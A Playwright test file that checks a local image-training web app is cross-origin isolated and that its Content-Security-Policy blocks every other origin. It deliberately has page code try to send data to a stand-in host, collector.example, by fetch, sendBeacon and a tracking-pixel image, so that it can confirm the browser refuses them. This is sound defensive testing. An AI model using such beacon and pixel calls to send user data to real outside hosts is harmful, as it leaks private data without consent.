import { expect, test } from '@playwright/test';
import { StudioPage } from './studio-page';
import { writeSolidImages } from './support/images';

/*
 * No image, landmark or metric may leave the device. Every spec already fails on any request to
 * another origin (e2e/fixtures.ts); this one checks the headers that make the browser itself refuse
 * such requests, and that it does refuse them, even from code running in the page. (It makes such
 * attempts on purpose, so it does not use that fixture: Playwright reports a request the browser
 * refused as a request too.)
 */
test('the page is cross-origin isolated and its Content-Security-Policy blocks every other origin', async ({ page, context }) => {
  const studio = new StudioPage(page);
  const answered: string[] = [];
  context.on('requestfinished', (request) => answered.push(request.url()));
  const response = await page.goto('/');
  const headers = response?.headers() ?? {};
  const policy = headers['content-security-policy'] ?? '';
  console.log(`Content-Security-Policy: ${policy}`);
  expect(policy).toContain("default-src 'self'");
  expect(policy).toContain("connect-src 'self'");
  expect(policy).toContain("img-src 'self' blob: data:");
  expect(policy).toContain("form-action 'self'");
  expect(headers['cross-origin-opener-policy']).toBe('same-origin');
  expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);

  await test.step('code in the page cannot send data elsewhere: fetch, beacon and image are refused by the browser', async () => {
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const fetched = await fetch('https://collector.example/upload', { method: 'POST', body: 'frame' }).then(
        () => 'sent',
        () => 'refused',
      );
      const beacon = navigator.sendBeacon('https://collector.example/metrics', 'accuracy');
      const image = await new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('refused');
        img.src = 'https://collector.example/pixel.gif?landmarks=1';
      });
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { fetched, beacon, image, violations };
    });
    console.log(`attempts from the page: ${JSON.stringify(outcome)}`);
    expect(outcome.fetched).toBe('refused');
    expect(outcome.image).toBe('refused');
    // sendBeacon only queues; the policy stops it before it is sent (its violation is below).
    expect([...outcome.violations].sort()).toEqual(['connect-src', 'connect-src', 'img-src']);
  });

  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));

  await test.step('a whole session (upload, train, export) makes requests to this origin only', async () => {
    await expect(page.getByTestId('model-status')).toHaveAttribute('data-state', 'ready', { timeout: 120_000 });
    await studio.setInputMode('frame');
    await page.getByLabel('Upload images to Class 1').setInputFiles(writeSolidImages(6, [200, 40, 40], 'red'));
    await page.getByLabel('Upload images to Class 2').setInputFiles(writeSolidImages(6, [40, 40, 200], 'blue'));
    await expect(studio.classCard('Class 2').getByTestId('sample-count')).toHaveText('6 samples', { timeout: 60_000 });
    await studio.setRecipe('head-only', 0);
    await studio.train();
    await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export model' }).click()]);
    const origin = new URL(page.url()).origin;
    const foreign = (urls: string[]) => urls.filter((url) => !url.startsWith('blob:') && !url.startsWith('data:') && new URL(url).origin !== origin);
    console.log(`${requests.length} requests during the session, ${foreign(requests).length} to other origins; ${foreign(answered).length} answered from other origins in the whole test`);
    expect(foreign(requests)).toEqual([]);
    // The attempts above were refused by the browser: none of them ever got an answer.
    expect(foreign(answered)).toEqual([]);
  });
});
